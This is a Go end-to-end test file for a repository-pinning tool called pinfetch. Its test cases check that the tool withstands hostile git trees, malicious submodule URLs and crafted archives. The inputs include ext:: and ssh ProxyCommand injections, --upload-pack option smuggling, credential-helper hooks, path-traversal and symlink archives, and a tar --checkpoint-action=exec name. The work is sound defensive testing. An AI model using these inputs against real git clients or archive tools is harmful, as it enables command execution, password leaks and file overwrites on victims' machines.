package e2e

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/hex"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/pinfetch/pinfetch/test/forgetest"
)

// gitIn runs git in a bare repository of the forge and returns what it prints.
func gitIn(t *testing.T, repo *forgetest.Repo, stdin string, args ...string) string {
	t.Helper()
	cmd := exec.CommandContext(t.Context(), "git", args...)
	cmd.Dir, cmd.Stdin = repo.Dir(), strings.NewReader(stdin)
	cmd.Env = []string{
		"PATH=" + os.Getenv("PATH"), "HOME=" + repo.Dir(), "GIT_DIR=" + repo.Dir(), "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=" + os.DevNull,
		"GIT_AUTHOR_NAME=Eve", "GIT_AUTHOR_EMAIL=eve@example.org", "GIT_COMMITTER_NAME=Eve", "GIT_COMMITTER_EMAIL=eve@example.org",
		"GIT_AUTHOR_DATE=2024-01-01T12:00:00Z", "GIT_COMMITTER_DATE=2024-01-01T12:00:00Z",
	}
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("git %q: %v", args, err)
	}
	return strings.TrimSpace(string(out))
}

// rawCommit commits a tree that git itself would not make: mode and name, then the object's ID or, after "=", its contents.
func rawCommit(t *testing.T, repo *forgetest.Repo, entries [][2]string) {
	t.Helper()
	var tree strings.Builder
	for _, entry := range entries {
		mode, name, _ := strings.Cut(entry[0], " ")
		id := entry[1]
		if body, literal := strings.CutPrefix(id, "="); literal {
			id = gitIn(t, repo, body, "hash-object", "-w", "--stdin")
		}
		digest, err := hex.DecodeString(id)
		if err != nil {
			t.Fatal(err)
		}
		tree.WriteString(strings.TrimPrefix(mode, "0") + " " + name + "\x00" + string(digest))
	}
	id := gitIn(t, repo, tree.String(), "hash-object", "-t", "tree", "-w", "--stdin", "--literally")
	repo.Branch("main", gitIn(t, repo, "evil\n", "commit-tree", id))
}

// TestHostileTrees pins checkouts of trees that git itself never makes.
func TestHostileTrees(t *testing.T) {
	t.Parallel()
	forge := forgetest.New(t)
	v := newVictim(t, forge)
	part := forge.Repo("acme/part").Commit("main", forgetest.Files{"hooks/post-checkout": {Body: v.arm("#!/bin/sh\nTOUCH\n"), Executable: true}})
	settings := v.arm("[core]\n\tfsmonitor = TOUCH\n\thooksPath = .\n[filter \"lfs\"]\n\tsmudge = TOUCH\n\tprocess = TOUCH\n")
	for i, tt := range []struct {
		name    string
		entries func(repo *forgetest.Repo) [][2]string
		flags   []string
		works   bool
	}{
		{".git as a file", func(*forgetest.Repo) [][2]string { return [][2]string{{"100644 .git", "=gitdir: /tmp"}} }, nil, false},
		{".git as a directory", func(r *forgetest.Repo) [][2]string {
			config := gitIn(t, r, settings, "hash-object", "-w", "--stdin")
			return [][2]string{{"040000 .git", gitIn(t, r, "100644 blob "+config+"\tconfig\n", "mktree")}}
		}, nil, false},
		{".git as a link", func(*forgetest.Repo) [][2]string { return [][2]string{{"120000 .git", "=/tmp"}} }, nil, false},
		{".GIT", func(r *forgetest.Repo) [][2]string {
			config := gitIn(t, r, settings, "hash-object", "-w", "--stdin")
			return [][2]string{{"040000 .GIT", gitIn(t, r, "100644 blob "+config+"\tconfig\n", "mktree")}}
		}, nil, false},
		{"..", func(*forgetest.Repo) [][2]string { return [][2]string{{"120000 ..", "=/tmp"}} }, nil, false},
		{".", func(*forgetest.Repo) [][2]string { return [][2]string{{"100644 .", "=x"}} }, nil, false},
		{"name with a slash", func(*forgetest.Repo) [][2]string { return [][2]string{{"100644 ../../mark", "=x"}} }, nil, false},
		{"absolute name", func(*forgetest.Repo) [][2]string { return [][2]string{{"100644 " + v.mark, "=x"}} }, nil, false},
		{"name with escapes", func(*forgetest.Repo) [][2]string {
			return [][2]string{{"100644 " + evil, "=x"}, {"160000 \x1b[2Jmodule", part}}
		}, nil, true},
		{"name is an option", func(*forgetest.Repo) [][2]string {
			return [][2]string{{"100644 --upload-pack=x", "=x"}, {"100644 -x", "=x"}}
		}, nil, true},
		{"filter of its own", func(*forgetest.Repo) [][2]string {
			return [][2]string{{"100644 .gitattributes", "=* filter=evil diff=evil merge=evil working-tree-encoding=evil\n"}, {"100644 .gitconfig", "=" + settings}, {"100644 config", "=" + settings}, {"100644 x", "=x"}}
		}, nil, true},
		{"filter of LFS", func(*forgetest.Repo) [][2]string {
			return [][2]string{{"100644 .gitattributes", "=* filter=lfs\n"}, {"100644 .lfsconfig", "=" + evilLFS(v)}, {"100644 x", "=" + pointer}}
		}, nil, true},
		{"filter of LFS, with LFS", func(*forgetest.Repo) [][2]string {
			return [][2]string{{"100644 .gitattributes", "=* filter=lfs\n"}, {"100644 .lfsconfig", "=" + evilLFS(v)}, {"100644 x", "=" + pointer}}
		}, []string{"--lfs"}, false},
		{"link to everything", func(*forgetest.Repo) [][2]string {
			return [][2]string{{"120000 etc", "=/etc"}, {"120000 proc", "=/proc/self"}, {"120000 up", "=../../../.."}}
		}, nil, true},
		{"root directory is a link", func(*forgetest.Repo) [][2]string { return [][2]string{{"120000 src", "=/etc"}} }, []string{"--root-dir", "src"}, true},
		{"root directory below a link", func(*forgetest.Repo) [][2]string { return [][2]string{{"120000 src", "=/etc"}} }, []string{"--root-dir", "src/ssl"}, false},
		{"link beside a submodule", func(*forgetest.Repo) [][2]string {
			return [][2]string{
				{"120000 a", "=.git"}, {"160000 A", part},
				{"100644 .gitmodules", "=[submodule \"x\"]\n\tpath = A/modules/x\n\turl = https://git.example.org/acme/part\n[submodule \"y\"]\n\tpath = a/hooks\n\turl = https://git.example.org/acme/part\n"},
			}
		}, []string{"--submodules"}, false},
		{".gitmodules is a link", func(*forgetest.Repo) [][2]string {
			return [][2]string{{"120000 .gitmodules", "=/etc/passwd"}, {"160000 part", part}}
		}, []string{"--submodules"}, false},
		{".gitattributes is a link", func(*forgetest.Repo) [][2]string {
			return [][2]string{{"120000 .gitattributes", "=/dev/zero"}, {"100644 x", "=x"}}
		}, nil, true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			v := v.in(t)
			name := fmt.Sprintf("acme/tree%d", i)
			rawCommit(t, forge.Repo(name), tt.entries(forge.Repo(name)))
			args := append([]string{"--retries=0", "--verbose", "add", "git+https://git.example.org/" + name, "--branch", "main"}, tt.flags...)
			if tt.works {
				if r := v.attack(args...); r.code != 0 {
					t.Errorf("exit code %d\n%s", r.code, r.stderr)
				}
				return
			}
			v.unmoved("", args...)
		})
	}
}

const pointer = "version https://git-lfs.github.com/spec/v1\noid sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b85f\nsize 1\n"

// evilLFS sends git-lfs to the attacker's programs and hosts.
func evilLFS(v *victim) string {
	return v.arm("[lfs]\n\turl = file:///etc\n\tstandalonetransferagent = evil\n\tconcurrenttransfers = 1000000\n[lfs \"customtransfer.evil\"]\n\tpath = TOUCH\n[lfs \"extension.evil\"]\n\tsmudge = TOUCH\n[core]\n\tfsmonitor = TOUCH\n[credential]\n\thelper = !TOUCH\n")
}

// TestHostileSubmodules pins checkouts with malicious submodules, with a password for the
// host from which they may try to get it.
func TestHostileSubmodules(t *testing.T) {
	t.Parallel()
	forge := forgetest.New(t)
	v := newVictim(t, forge)
	netrc := filepath.Join(t.TempDir(), "netrc")
	if err := os.WriteFile(netrc, []byte("machine git.example.org login ada password "+canary+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	v.env = append(v.env, "NETRC="+netrc)
	part := forge.Repo("acme/part").Commit("main", forgetest.Files{
		"part": {Body: "part\n"}, ".gitattributes": {Body: "* filter=evil\n"}, "hooks/post-checkout": {Body: v.arm("#!/bin/sh\nTOUCH\n"), Executable: true},
		"config": {Body: v.arm("[core]\n\tfsmonitor = TOUCH\n")}, "HEAD": {Body: "ref: refs/heads/main\n"},
	})
	local := forge.Repo("acme/part").Dir()
	const good = "https://git.example.org/acme/part"
	module := func(name, path, url string, more ...string) string {
		text := fmt.Sprintf("[submodule %q]\n\tpath = %s\n\turl = %s\n", name, path, url)
		for _, line := range more {
			text += "\t" + line + "\n"
		}
		return text
	}
	for i, tt := range []struct {
		name    string
		modules string
		works   bool // it is pinned, and nothing comes of it
	}{
		{"file", module("part", "part", "file://"+local), false},
		{"path", module("part", "part", local), false},
		{"path of the system", module("part", "part", "/etc"), false},
		{"path up", module("part", "part", "../../../../../../../../../.."+local), false},
		{"command", module("part", "part", "ext::TOUCH"), false},
		{"command with %", module("part", "part", "\"ext::sh -c touch% MARK\""), false},
		{"file descriptor", module("part", "part", "fd::0"), false},
		{"git", module("part", "part", "git://git.example.org/acme/part"), false},
		{"ssh", module("part", "part", "ssh://-oProxyCommand=touch%20MARK/x"), false},
		{"ssh in short", module("part", "part", "-oProxyCommand=TOUCH:x"), false},
		{"option", module("part", "part", "--upload-pack=TOUCH"), false},
		{"short option", module("part", "part", "\"-uTOUCH\""), false},
		{"helper", module("part", "part", "evil::https://git.example.org/acme/part"), false},
		{"helper that is there", module("part", "part", "https::file://"+local), false},
		{"line break in the host", module("part", "part", "\"https://other.example.net\\nhost=git.example.org/acme/part\""), false},
		{"coded line break in the host", module("part", "part", "https://other.example.net%0ahost=git.example.org/acme/none"), false},
		{"coded line break in the user", module("part", "part", "https://x%0ahost=git.example.org@other.example.net/acme/none"), false},
		{"password", module("part", "part", "https://eve:mallory@other.example.net/acme/none"), false},
		{"user", module("part", "part", "https://ada@other.example.net/acme/none"), false},
		{"escapes", module("part", "part", "\"https://other.example.net/\x1b[2J\x1b]0;owned\x07\""), false},
		{"no such", module("part", "part", "https://git.example.org/acme/none"), false},
		{"name that climbs", module("../../x", "part", good), false},
		{"name of git's", module("../../hooks", "part", good), false},
		{"name with escapes", module("\x1b[2J", "part", "https://git.example.org/acme/none"), false},
		{"command for the update", module("part", "part", good, "update = !TOUCH"), false},
		{"path that climbs", module("part", "../part", good) + module("other", "part", "https://git.example.org/acme/none"), false},
		{"path is an option", module("part", "-x", good), false},
		{"path with a carriage return", module("part", "\"part\r\"", good), false},
		{"branch is an option", module("part", "part", good, "branch = --upload-pack=TOUCH", "ignore = TOUCH"), true},
		{"setting is an option", module("part", "part", good, "fetchRecurseSubmodules = --x"), false},
		{"other settings", module("part", "part", good) + "[core]\n\tfsmonitor = TOUCH\n\tsshCommand = TOUCH\n[url \"file://" + local + "\"]\n\tinsteadOf = https://\n[alias]\n\tcheckout = !TOUCH\n[include]\n\tpath = /etc/passwd\n[credential]\n\thelper = !TOUCH\n", true},
		{"no settings", evil, false},
		{"many", module("part", "part", good) + strings.Repeat(module("x", "x", "ext::TOUCH"), 1_000), true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			v := newVictim(t, forge)
			v.env = append(v.env, "NETRC="+netrc)
			top := forge.Repo(fmt.Sprintf("acme/top%d", i))
			top.Commit("main", forgetest.Files{".gitmodules": {Body: v.arm(tt.modules)}, "part": {Submodule: part}})
			args := []string{"--retries=0", "--verbose", "add", "git+https://git.example.org/" + top.Name(), "--submodules"}
			if tt.works {
				if r := v.attack(args...); r.code != 0 {
					t.Errorf("exit code %d\n%s", r.code, r.stderr)
				}
			} else if r := v.unmoved("", args...); strings.Contains(r.stderr, canary) || strings.Contains(r.stderr, "mallory") {
				t.Errorf("a password is shown: %s", r.stderr)
			}
			// A submodule of a submodule is no better.
			outer := forge.Repo(fmt.Sprintf("acme/outer%d", i))
			outer.Commit("main", forgetest.Files{".gitmodules": {Body: module("top", "top", "../"+strings.TrimPrefix(top.Name(), "acme/"))}, "top": {Submodule: top.Rev("main")}})
			v.attack("--retries=0", "add", "github:"+outer.Name(), "--submodules")
		})
	}
	t.Cleanup(func() {
		for _, r := range forge.Requests() {
			if form := leak(fmt.Appendf(nil, "%s %q %q", r.Path, r.Query, r.Header)); form != "" && (r.Host != "git.example.org" || !r.TLS) {
				t.Errorf("%s was told the password of git.example.org", r.Host)
			}
		}
	})
}

// member is an entry of an archive.
type member struct {
	header tar.Header
	body   string
}

func tarball(t *testing.T, members ...member) []byte {
	t.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	w := tar.NewWriter(z)
	for _, m := range members {
		m.header.Size = int64(len(m.body))
		if m.header.Mode == 0 {
			m.header.Mode = 0o755
		}
		if err := w.WriteHeader(&m.header); err != nil {
			t.Fatal(err)
		}
		io.WriteString(w, m.body)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func zipball(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for name, body := range files {
		f, err := w.CreateHeader(&zip.FileHeader{Name: name, Method: zip.Deflate})
		if err != nil {
			t.Fatal(err)
		}
		io.WriteString(f, body)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// lying is a tar whose header gives a larger size than its data.
func lying(t *testing.T, size string) []byte {
	t.Helper()
	data := []byte(gunzip(t, tarball(t, member{tar.Header{Name: "x/a"}, "a"})))
	copy(data[124:136], size)
	copy(data[148:156], "        ")
	sum := 0
	for _, c := range data[:512] {
		sum += int(c)
	}
	copy(data[148:156], fmt.Sprintf("%06o\x00 ", sum))
	return []byte(gzipped(string(data)))
}

func gunzip(t *testing.T, data []byte) string {
	t.Helper()
	r, err := gzip.NewReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	text, err := io.ReadAll(r)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

// TestHostileArchives pins archives that try to write elsewhere. Nothing is ever created
// under a name from an archive, so archives that tar or unzip would unpack may be
// pinned; no others may.
func TestHostileArchives(t *testing.T) {
	t.Parallel()
	forge := forgetest.New(t)
	v := newVictim(t, forge)
	v.bounded = true
	file := func(name, body string) member { return member{tar.Header{Name: name}, body} }
	link := func(kind byte, name, to string) member {
		return member{tar.Header{Typeflag: kind, Name: name, Linkname: to}, ""}
	}
	archives := map[string][]byte{
		"climbs.tar.gz":         tarball(t, file("../../mark", "x")),
		"absolute.tar.gz":       tarball(t, file(v.mark, "x")),
		"inside.tar.gz":         tarball(t, file("x/../../../mark", "x")),
		"through-link.tar.gz":   tarball(t, link(tar.TypeSymlink, "x/out", filepath.Dir(v.mark)), file("x/out/mark", "x")),
		"over-link.tar.gz":      tarball(t, link(tar.TypeSymlink, "x/mark", v.mark), file("x/mark", "x")),
		"hard-link.tar.gz":      tarball(t, link(tar.TypeLink, "x/passwd", "/etc/passwd")),
		"hard-link-up.tar.gz":   tarball(t, link(tar.TypeLink, "x/passwd", "../../../../etc/passwd")),
		"device.tar.gz":         tarball(t, member{tar.Header{Typeflag: tar.TypeChar, Name: "x/zero", Devmajor: 1, Devminor: 5}, ""}),
		"fifo.tar.gz":           tarball(t, link(tar.TypeFifo, "x/fifo", "")),
		"escapes.tar.gz":        tarball(t, file("x/"+evil, "x"), file("y/"+evil, "y"), link(tar.TypeLink, "x/\x1b[2J", "/\x1b[31m")),
		"escape-root.tar.gz":    tarball(t, file(evil+"/a", "x"), file(evil+"\x1b[1m/a", "x")),
		"long-name.tar.gz":      tarball(t, file("x/"+strings.Repeat("a", 500_000), "x")),
		"deep.tar.gz":           tarball(t, file(strings.Repeat("a/", 100_000)+"x", "x")),
		"option.tar.gz":         tarball(t, file("--checkpoint-action=exec=touch mark", "x"), file("--checkpoint=1", "x")),
		"git.tar.gz":            tarball(t, file("x/.git/config", v.arm("[core]\n\tfsmonitor = TOUCH\n")), file("x/.git/hooks/post-checkout", v.arm("#!/bin/sh\nTOUCH\n"))),
		"huge-size.tar.gz":      lying(t, "77777777777\x00"),
		"negative-size.tar.gz":  lying(t, "\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff"),
		"endless-size.tar.gz":   lying(t, "\x80\x00\x00\x00\x7f\xff\xff\xff\xff\xff\xff\xff"),
		"no-size.tar.gz":        lying(t, "$(touch x)\x00\x00"),
		"climbs.zip":            zipball(t, map[string]string{"../../mark": "x"}),
		"absolute.zip":          zipball(t, map[string]string{v.mark: "x"}),
		"escapes.zip":           zipball(t, map[string]string{"x/" + evil: "x", "y/" + evil: "y"}),
		"long-name.zip":         zipball(t, map[string]string{"x/" + strings.Repeat("a", 60_000): "x"}),
		"comment-of-escapes.gz": append([]byte("\x1f\x8b\x08\x18\x00\x00\x00\x00\x00\x03"), []byte(evil+"\x00"+evil+"\x00xxxx")...),
		"empty.tar.gz":          []byte(gzipped("")),
		"html.tar.gz":           []byte("<!DOCTYPE html><title>" + evil + "</title>"),
	}
	for name, data := range archives {
		forge.File("files.example.org", "/"+name, forgetest.Content{Body: data})
		if err := os.WriteFile(filepath.Join(v.dir, name), data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	// tar removes leading slashes, unzip removes dots, and .git is an ordinary directory.
	unpacks := map[string]bool{"absolute.tar.gz": true, "climbs.zip": true, "git.tar.gz": true}
	for name := range archives {
		t.Run(name, func(t *testing.T) {
			v := v.in(t)
			lock := read(t, v.lockFile())
			for _, args := range [][]string{
				{"--retries=0", "--verbose", "add", "--unpack", "--name", "pin", "https://files.example.org/" + name}, {"hash", "archive", name},
				{"hash", "archive", "--no-strip-root", name}, {"--retries=0", "hash", "url", "--unpack", "--no-strip-root", "https://files.example.org/" + name},
			} {
				r := v.attack(args...)
				if r.code != 0 && !strings.Contains(r.stderr, "pinfetch: hint: ") {
					t.Errorf("pinfetch %q: no hint\n%.600s", args, r.stderr)
				}
				if r.code != 0 && read(t, v.lockFile()) != lock {
					t.Errorf("pinfetch %q failed and changed the lock", args)
				}
				if want := unpacks[name]; len(args) > 3 && args[2] == "add" && (r.code == 0) != want {
					t.Errorf("pinfetch %q: exit code %d, want success: %t\n%.600s", args, r.code, want, r.stderr)
				}
			}
			v.restore(lock)
		})
	}
}
